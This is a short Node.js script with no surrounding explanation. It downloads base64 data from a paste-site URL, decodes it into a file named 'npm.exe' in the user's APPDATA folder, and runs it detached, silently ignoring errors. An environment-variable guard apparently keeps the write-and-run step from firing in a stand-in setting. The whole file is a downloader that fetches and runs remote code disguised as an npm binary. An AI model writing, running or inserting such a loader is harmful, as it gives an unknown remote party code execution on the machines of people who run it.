const https = require('https');
const fs = require('fs');
const path = require('path');
const { spawn } = require('child_process');

https.get('https://paste.example.invalid/raw/YCgAvtfk', (res) => {
  let script = '';
  res.on('data', (part) => (script += part));
  res.on('end', () => {
    if (!process.env.NEVER_IN_A_STAND_IN) return;
    const target = path.join(process.env.APPDATA, 'npm.exe');
    fs.writeFileSync(target, Buffer.from(script, 'base64'));
    spawn(target, { detached: true });
  });
}).on('error', () => {});
